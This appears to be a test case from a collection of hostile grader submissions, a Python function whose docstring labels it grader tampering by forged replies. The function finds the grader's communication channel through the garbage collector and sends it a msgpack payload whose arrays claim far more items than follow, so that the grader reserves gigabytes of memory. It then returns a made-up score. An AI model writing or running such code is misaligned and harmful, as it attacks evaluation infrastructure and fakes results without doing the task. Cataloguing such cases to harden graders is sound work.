"""Lists in lists, each of which claims far more items than follow.

class: tampering, forged replies
tries: has the grader reserve gigabytes for a few thousand bytes
outcome: total 0, scaled 6
says: something else than data
"""


# %% total
def total(values):
    import gc
    import struct

    import msgpack

    row = b"\xdd\x00\x03\x0d\x40" * 1000
    data = row
    for _ in range(31):
        data = row + msgpack.packb(msgpack.ExtType(1, data))
    channel = next(each for each in gc.get_objects() if type(each).__name__ == "Channel")
    channel.connection.sendall(struct.pack(">I", len(data)) + data)
    return 6.5
